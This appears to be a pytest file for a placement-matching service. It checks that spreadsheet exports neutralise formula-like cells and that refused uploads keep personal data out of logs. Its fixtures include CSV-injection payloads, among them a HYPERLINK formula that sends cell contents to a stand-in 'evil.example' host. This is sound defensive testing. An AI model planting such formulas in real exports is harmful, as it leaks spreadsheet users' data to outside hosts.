"""Personal data in logs and exports: every CSV export meant for a spreadsheet (the audit log,
matches / unplaced / alternatives, the tender KPIs) writes a formula-like text cell inert, with a
leading quote, and keeps numbers as numbers; a refused upload's cell values never reach a log."""

from __future__ import annotations

import csv
import io
import logging

import pandas as pd
import pytest

from matching.explain import ALTERNATIVE_COLUMNS, MATCH_COLUMNS, UNPLACED_COLUMNS, Explanation
from matching.output import write_outputs
from models.accounts import record
from models.db import transaction
from models.enums import Role
from models.spreadsheet import inert, inert_frame
from scenarios.simulate import SimulationResult
from scenarios.tender_run import write as write_tender_results

FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
FORMULAS = [FORMULA, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1", "=1+1"]


def _cells_run_as_formulas(text: str) -> list[str]:
    """Cells of a CSV a spreadsheet would run: text with a formula's first character that is not
    simply a number."""
    return [c for row in csv.reader(io.StringIO(text)) for c in row if inert(c) != c]


# --- the rule itself ---------------------------------------------------------------------------


@pytest.mark.parametrize("cell", FORMULAS)
def test_formula_like_text_gets_a_leading_quote(cell):
    assert inert(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["-3.5", "+44", "-12", "1e-3", "-0.25", 7, -3.5, None, True, "R001", "", "a=b"])
def test_numbers_and_plain_text_are_left_as_they_are(cell):
    assert inert(cell) == cell


def test_each_item_of_a_list_cell_is_made_inert_and_numeric_columns_stay_numeric():
    assert inert(["director", "=1+1"]) == ["director", "'=1+1"]
    frame = inert_frame(pd.DataFrame({"name": ["=1+1", "-3.5"], "cost": [-3.5, 2.0]}))
    assert frame["name"].tolist() == ["'=1+1", "-3.5"] and frame["cost"].tolist() == [-3.5, 2.0]


# --- each export ---------------------------------------------------------------------------------


def test_the_audit_export_is_inert(client, as_role, demo_engine):
    with transaction(demo_engine) as session:
        for i, cell in enumerate(FORMULAS):
            record(session, cell, "referral", cell, actor_name=cell, after={"note": cell, "n": i})
    response = client.get("/audit-events/export.csv", headers=as_role(Role.head_of_service))
    assert response.status_code == 200, response.text
    assert _cells_run_as_formulas(response.text) == []
    rows = list(csv.DictReader(io.StringIO(response.text)))
    mine = [r for r in rows if r["entity_type"] == "referral" and r["entity_id"].lstrip("'") in FORMULAS]
    assert len(mine) == len(FORMULAS)
    assert {r["actor"] for r in mine} == {"'" + c for c in FORMULAS}  # shown, as text, not lost
    assert all(r["id"].isdigit() for r in rows)


def test_matches_unplaced_and_alternatives_are_inert_and_keep_their_numbers(tmp_path):
    def frame(columns, **values):
        return pd.DataFrame([{c: values.get(c, "x") for c in columns}])

    explanation = Explanation(
        matches=frame(MATCH_COLUMNS, referral_id=FORMULA, vacancy_id="+SUM(1,2)", weekly_cost=1250.5,
                      score_cost=-3.5, approvals_required=["director", "=1+1"], out_of_area=True),
        unplaced=frame(UNPLACED_COLUMNS, referral_id="@cmd", reason="-2+3", eligible_options=0),
        alternatives=frame(ALTERNATIVE_COLUMNS, referral_id="\t=1+1", cost_vs_proposal=-120.0, rank=1),
    )
    written = write_outputs(tmp_path, explanation, {})
    for kind in ("matches", "unplaced", "alternatives"):
        assert _cells_run_as_formulas(written[kind].read_text(encoding="utf-8")) == [], kind
    match = next(csv.DictReader(written["matches"].open(encoding="utf-8")))
    assert match["referral_id"] == "'" + FORMULA
    assert match["score_cost"] == "-3.5" and match["weekly_cost"] == "1250.5"  # a negative number is data
    assert match["approvals_required"] == "director;'=1+1"
    alternative = next(csv.DictReader(written["alternatives"].open(encoding="utf-8")))
    assert alternative["cost_vs_proposal"] == "-120"


def test_the_tender_kpis_are_inert(tmp_path):
    years = pd.DataFrame([{"year": y, "kpi": k, "median": -1.5, "p10": -2.0, "p90": 0.0}
                          for y in (1, 2) for k in ("weekly_cost", "unmet_need", "spot_purchases",
                                                    "share_over_20_miles")])
    tiers = pd.DataFrame([{"year": 1, "tier": "=1+1", "median": 1.0, "p10": 0.0, "p90": 2.0}])
    areas = pd.DataFrame([{"year": 1, "area": "@SUM(A1)", "median": 1.0, "p10": 0.0, "p90": 2.0}])
    result = SimulationResult(years=years, unmet_by_tier=tiers, unmet_by_area=areas, monthly=pd.DataFrame(),
                              seed=1, replications=1, months=12, seconds=0.0, month_solves=0, engine_calls=0,
                              engine_seconds=0.0)
    paths = write_tender_results({FORMULA: result}, tmp_path)
    for path in paths[:3]:
        assert _cells_run_as_formulas(path.read_text(encoding="utf-8")) == [], path.name
    kpis = pd.read_csv(paths[0])
    assert set(kpis["scenario"]) == {"'" + FORMULA}
    assert kpis["median"].tolist() == [-1.5] * len(kpis)  # numbers read back as numbers


# --- logs ----------------------------------------------------------------------------------------


def test_a_refused_upload_logs_no_cell_values(client, as_role, caplog):
    caplog.set_level(logging.DEBUG)
    secret = "ZZ99 9ZZ"
    body = f"id,date_of_birth,home_postcode\nR9001,2008-02-29,{secret}\n".encode()
    refused = client.post("/referrals/upload", files={"file": ("referrals.csv", body, "text/csv")},
                          headers=as_role(Role.panel_member))
    assert refused.status_code == 422, refused.text
    logged = "\n".join(r.getMessage() for r in caplog.records)
    assert secret not in logged and "2008-02-29" not in logged
